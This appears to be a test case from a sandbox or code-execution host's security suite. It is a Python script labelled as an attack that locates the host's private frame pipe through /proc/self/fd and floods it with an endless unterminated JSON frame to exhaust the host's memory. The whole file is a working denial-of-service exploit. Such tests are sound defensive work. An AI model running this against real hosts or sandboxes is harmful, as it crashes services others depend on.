# attack: write an endless line without a newline straight to the frame descriptor, so the host
#   keeps buffering one "frame" until it runs out of memory
# escaped-if: the host raises or the run does not end as a flood (the test checks the message)
# policy: wide
import os


def frame_descriptor():
    """The bootstrap's private pipe to the host: a pipe that is not the one behind fd 2."""
    stderr = os.readlink("/proc/self/fd/2")
    for fd in range(3, 16):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")) and target != stderr:
            return fd
    raise SystemExit("no frame descriptor found")


fd = frame_descriptor()
os.write(fd, b'{"t": "out", "d": "')
chunk = b"A" * (1024 * 1024)
while True:
    os.write(fd, chunk)
